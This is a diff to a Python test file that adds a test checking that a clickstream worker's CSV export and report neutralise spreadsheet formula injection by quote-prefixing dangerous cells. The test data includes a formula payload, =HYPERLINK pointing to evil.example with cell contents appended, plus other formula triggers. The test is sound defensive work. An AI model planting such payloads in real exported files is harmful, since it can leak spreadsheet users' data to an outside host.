@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 
-from shared.event import Event
+from shared.event import Event, EventFactory
 from worker.__main__ import main
 from worker.export import export
 from worker.store import EVENT_COLUMNS as COLUMNS
@@ -75,10 +75,25 @@ def test_empty_store_exports_just_the_header(data_dir: Path) -> None:
     store.close()
     out = io.StringIO()
     assert export(data_dir / "clickstream.sqlite3", "csv", out) == 0
-    assert out.getvalue() == ",".join(COLUMNS) + "\n"
+    assert list(csv.reader(io.StringIO(out.getvalue()))) == [list(COLUMNS)]
 
 
 @pytest.mark.parametrize("argv", [["export"], ["export", "--format", "parquet"]])
 def test_export_usage_errors(argv: list[str], capsys) -> None:
     assert main(argv) == 2
     assert "--format" in capsys.readouterr().err
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(events: list[Event], data_dir: Path,
+                                                                capsys) -> None:
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "+1", "-2", "@SUM(A1)", "\tx", "\ry"]
+    store = Store(data_dir / "clickstream.sqlite3")
+    factory = EventFactory("s")
+    store.add([factory.make("button_click", component) for component in hostile])
+    store.close()
+    assert main(["export", "--format", "csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert [row["component"] for row in rows[len(events):]] == ["'" + value for value in hostile]
+    assert main(["report", "--format", "csv"]) == 0
+    report = capsys.readouterr().out
+    assert "'=HYPERLINK" in report and "\n=" not in report and ",=" not in report
